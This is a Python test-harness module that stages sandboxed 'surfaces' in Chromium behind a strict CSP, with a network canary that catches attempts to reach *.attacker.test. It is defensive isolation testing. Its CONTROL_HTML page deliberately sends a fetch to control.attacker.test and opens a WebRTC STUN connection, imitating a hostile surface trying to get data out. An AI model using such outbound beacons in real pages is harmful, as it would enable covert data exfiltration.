"""A stage for surfaces in real Chromium: a shell-like page that frames surfaces with
``surface_host.js``, the surface origin, a network canary and a Chromium whose resolver
sends ``*.attacker.test`` to the canary.

The shell is a small loopback Starlette app whose CSP copies the real shell's
(``lineup.host.app.csp``) with ``frame-src`` = ``frame_source(port)``; the surface origin
is a second listener. Both run in the caller's event loop.

Two ways to use it: ``staged()`` gives one test everything of its own (servers, canary,
Chromium, page); ``StageServers.running()`` starts the servers, canary and one Chromium
for many tests, and ``open_stage(servers)`` gives each test a fresh context and page on
them (a killed or hung renderer stays in its own context).

The browser is a ``PageSource``: Chromium (``ChromiumPages``, the default) or, through
``StageServers.running(engine=...)``, another engine Playwright drives over CDP (the
desktop window's QtWebEngine: ``tests.support.qt_engine``).
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Callable
from contextlib import AbstractAsyncContextManager, asynccontextmanager
from dataclasses import dataclass, field
from importlib import resources
from typing import Any, Protocol
from urllib.parse import urlsplit

from playwright.async_api import Browser, BrowserContext, Page
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

from lineup.host.app import csp as shell_csp
from lineup.host.surface import Mount, SurfaceDocument, SurfaceOrigin, frame_source
from tests.host.surface.listener import serving
from tests.support.browser import (
    DEFAULT_TIMEOUT_MS,
    LOCAL_HOSTS,
    LOCAL_SCHEMES,
    VIEWPORT,
    PageWatch,
)
from tests.support.canary import Canary, launch_chromium_with, resolver_args

__all__ = [
    "CONTROL_HTML",
    "HARNESS_JS",
    "SHELL_HTML",
    "SHELL_TITLE",
    "ChromiumPages",
    "ConnectCanary",
    "Engine",
    "PageSource",
    "Stage",
    "StageServers",
    "document",
    "open_stage",
    "staged",
]

HARNESS_JS = """
import { mountSurface } from "/static/surface_host.js";

// log.events, resizes, ready, reloads and rejects are for every mount together;
// log.mounts[i] holds the same for mount i alone (with the time of its first and last
// message, for rate checks).
const log = { events: [], resizes: [], ready: 0, reloads: 0, rejects: [], mounts: [] };
const handles = [];
window.harness = {
  log,
  handles,
  mount(url, instanceId, mountId) {
    const stage = document.getElementById("stage");
    const own = { events: [], rejects: [], ready: 0, reloads: 0, first: null, last: null };
    const seen = () => {
      const t = performance.now();
      if (own.first === null) own.first = t;
      own.last = t;
    };
    log.mounts.push(own);
    handles.push(mountSurface(stage, { url, instanceId, mountId, title: "Surface" }, {
      onEvent: (name, data) => {
        log.events.push({ name, data });
        own.events.push({ name, data });
        seen();
      },
      onResize: (height) => log.resizes.push(height),
      onReady: () => { log.ready += 1; own.ready += 1; },
      onReload: () => { log.reloads += 1; own.reloads += 1; },
      onReject: (code) => { log.rejects.push(code); own.rejects.push(code); seen(); },
    }));
    return handles.length - 1;
  },
  post(index, state) { return handles[index].post(state); },
  counts(index) {
    const h = handles[index];
    return { rejected: h.rejected, rejections: h.rejections, trusted: h.trusted, ready: h.ready };
  },
};
"""

HARNESS_CSS = """
body { font: 16px sans-serif; margin: 24px; background: #f4f4f6; }
.surface-frame { display: block; width: 480px; border: 1px solid #99a; background: white; }
"""

SHELL_TITLE = "Surface harness"
SHELL_HTML = f"""<!doctype html>
<html lang="en"><head><meta charset="utf-8"><link rel="icon" href="data:,">
<title>{SHELL_TITLE}</title>
<link rel="stylesheet" href="/harness.css">
<script type="module" src="/harness.js"></script>
</head><body><h1 id="marker">Shell</h1><div id="stage"></div></body></html>"""

# A page with none of the surface's protections, making the same attempts a hostile
# surface makes: if the canary hears this, it would have heard the surface.
CONTROL_HTML = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><link rel="icon" href="data:,"><title>Control</title>
</head><body><p>control</p><script>
fetch("http://control.attacker.test/control-fetch", { mode: "no-cors" }).catch(() => {});
const pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:UDP_PORT" }] });
pc.createDataChannel("x");
pc.createOffer().then((offer) => pc.setLocalDescription(offer));
</script></body></html>"""


@dataclass
class ConnectCanary(Canary):
    """A ``Canary`` that also notes every TCP connection the moment it is accepted.

    ``Canary`` records a TCP hit once the peer has sent something or 5 s have passed; a
    bare pre-connect sends nothing, so it would show up seconds late (in the next test,
    or after the last one). ``connects`` hears it at once."""

    connects: list[tuple[str, int]] = field(default_factory=list)

    def clear(self) -> None:
        self.hits.clear()
        self.connects.clear()

    async def _on_tcp(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        peer = writer.get_extra_info("peername")
        self.connects.append((peer[0], peer[1]))
        self._changed.set()
        await super()._on_tcp(reader, writer)


@dataclass(frozen=True)
class OriginRequest:
    """One request the surface origin answered."""

    method: str
    host: str
    path: str
    status: int


class _Recording:
    """Test-only, around the surface origin: drops the response headers named in
    ``stripped`` (to show what each one stops) and records every request."""

    def __init__(self, app: Any) -> None:
        self.app = app
        self.stripped: set[bytes] = set()
        self.requests: list[OriginRequest] = []

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return
        hosts = [v.decode("latin-1") for k, v in scope["headers"] if k == b"host"]

        async def stripped(message: Any) -> None:
            if message["type"] == "http.response.start":
                message["headers"] = [h for h in message["headers"] if h[0] not in self.stripped]
                self.requests.append(
                    OriginRequest(
                        scope["method"], ",".join(hosts), scope["path"], message["status"]
                    )
                )
            await send(message)

        await self.app(scope, receive, stripped)


class PageSource(Protocol):
    """Where a stage's contexts and pages come from (one browser, many tests)."""

    async def new_context(self) -> BrowserContext:
        """A context for one test; its routes and listeners go when ``close`` runs."""
        ...

    async def new_page(self, context: BrowserContext, shell: str | None) -> Page:
        """A blank page in ``context``, about to show ``shell`` (with every protection of
        the engine's shell window); ``None``: a control page with none of them."""
        ...

    async def close(self, context: BrowserContext) -> None: ...


@dataclass(frozen=True)
class ChromiumPages:
    """Chromium: a new context per test, a new page per ``new_page``."""

    browser: Browser

    async def new_context(self) -> BrowserContext:
        return await self.browser.new_context(viewport=VIEWPORT)

    async def new_page(self, context: BrowserContext, shell: str | None) -> Page:
        return await context.new_page()

    async def close(self, context: BrowserContext) -> None:
        await context.close()


@asynccontextmanager
async def chromium(canary: Canary) -> AsyncIterator[PageSource]:
    """One Chromium whose resolver sends ``*.attacker.test`` to ``canary``."""
    async with launch_chromium_with(resolver_args(canary)) as browser:
        yield ChromiumPages(browser)


Engine = Callable[[Canary], AbstractAsyncContextManager[PageSource]]
"""Starts a browser engine with ``*.attacker.test`` resolved to the canary."""


@dataclass
class StageServers:
    """The shell's server, the surface origin, the canary and one browser."""

    shell: str
    origin: SurfaceOrigin
    canary: ConnectCanary
    pages: PageSource
    recorder: _Recording

    @property
    def stripped(self) -> set[bytes]:
        return self.recorder.stripped

    @property
    def surface_port(self) -> int:
        port = self.origin.port
        assert port is not None
        return port

    @classmethod
    @asynccontextmanager
    async def running(cls, engine: Engine = chromium) -> AsyncIterator[StageServers]:
        async with ConnectCanary.listening() as canary:
            assert isinstance(canary, ConnectCanary)
            ports: dict[str, int] = {}
            async with serving(shell_app(ports, canary)) as shell_port:
                shell = f"http://127.0.0.1:{shell_port}"
                origin = SurfaceOrigin([shell])
                recorder = _Recording(origin.asgi())
                async with serving(recorder) as surface_port:
                    origin.bind_port(surface_port)
                    ports["surface_port"] = surface_port
                    async with engine(canary) as pages:
                        yield cls(shell, origin, canary, pages, recorder)


@dataclass
class Stage:
    """A shell page's server, the surface origin, the canary and a watched page."""

    shell: str
    origin: SurfaceOrigin
    canary: ConnectCanary
    context: BrowserContext
    page: Page
    watch: PageWatch
    stripped: set[bytes]
    warnings: list[str]
    pages: PageSource

    async def new_page(self) -> Page:
        """A control page in this stage's context, with none of the shell's protections."""
        return await self.pages.new_page(self.context, None)

    async def close(self) -> None:
        await self.pages.close(self.context)

    async def mount(self, instance_id: str, document: SurfaceDocument) -> tuple[Mount, int]:
        mount = self.origin.mount(instance_id, document)
        index = await self.page.evaluate(
            "([url, i, m]) => window.harness.mount(url, i, m)",
            [mount.url, mount.instance_id, mount.mount_id],
        )
        return mount, int(index)

    async def until(self, predicate: str, arg: Any = None) -> None:
        """Wait for a JS predicate. It must be a function: a bare expression is run with
        eval, which the shell's CSP refuses (as it should)."""
        await self.page.wait_for_function(predicate, arg=arg)

    async def log(self) -> dict[str, Any]:
        return dict(await self.page.evaluate("window.harness.log"))

    async def counts(self, index: int) -> dict[str, Any]:
        return dict(await self.page.evaluate("(i) => window.harness.counts(i)", index))

    async def post(self, index: int, state: dict[str, Any]) -> bool:
        return bool(
            await self.page.evaluate("([i, s]) => window.harness.post(i, s)", [index, state])
        )


def document(html: str, js: str, css: str = "") -> SurfaceDocument:
    return SurfaceDocument(
        app_id="com.example.test", app_version="1.0.0", surface_id="main", html=html, css=css, js=js
    )


def shell_app(state: dict[str, int], canary: Canary) -> Starlette:
    static = resources.files("lineup.host").joinpath("static/surface_host.js")

    def page(request: Request) -> Response:
        policy = shell_csp([frame_source(state["surface_port"])])
        return HTMLResponse(SHELL_HTML, headers={"Content-Security-Policy": policy})

    def control(request: Request) -> Response:
        return HTMLResponse(CONTROL_HTML.replace("UDP_PORT", str(canary.udp_port)))

    def surface_host(request: Request) -> Response:
        return Response(static.read_text("utf-8"), media_type="text/javascript")

    def i18n(request: Request) -> Response:  # surface_host.js imports it
        text = resources.files("lineup.host").joinpath("static/i18n.js").read_text("utf-8")
        return Response(text, media_type="text/javascript")

    def harness_js(request: Request) -> Response:
        return Response(HARNESS_JS, media_type="text/javascript")

    def harness_css(request: Request) -> Response:
        return Response(HARNESS_CSS, media_type="text/css")

    return Starlette(
        routes=[
            Route("/", page),
            Route("/control", control),
            Route("/static/surface_host.js", surface_host),
            Route("/static/i18n.js", i18n),
            Route("/harness.js", harness_js),
            Route("/harness.css", harness_css),
        ]
    )


def _allowed(url: str) -> bool:
    """Loopback, the surface hosts and the canary's names; anything else never leaves."""
    parts = urlsplit(url)
    host = parts.hostname or ""
    return (
        parts.scheme in LOCAL_SCHEMES
        or host in LOCAL_HOSTS
        or host.endswith(".localhost")
        or host.endswith(".attacker.test")
    )


async def open_stage(servers: StageServers) -> Stage:
    """A fresh context and page on ``servers``, with the shell loaded. The caller closes
    the stage (``stage.close()``)."""
    context = await servers.pages.new_context()
    context.set_default_timeout(DEFAULT_TIMEOUT_MS)
    watch = PageWatch()
    await context.route(lambda url: not _allowed(url), watch.block_non_local)
    page = await servers.pages.new_page(context, servers.shell)
    watch.attach(page)
    warnings: list[str] = []
    page.on("console", lambda m: warnings.append(m.text) if m.type == "warning" else None)
    await page.goto(servers.shell + "/")
    await page.wait_for_function("() => window.harness !== undefined")
    return Stage(
        servers.shell,
        servers.origin,
        servers.canary,
        context,
        page,
        watch,
        servers.stripped,
        warnings,
        servers.pages,
    )


@asynccontextmanager
async def staged() -> AsyncIterator[Stage]:
    """Everything for one test: servers, canary, its own Chromium and a loaded shell."""
    async with StageServers.running() as servers:
        yield await open_stage(servers)
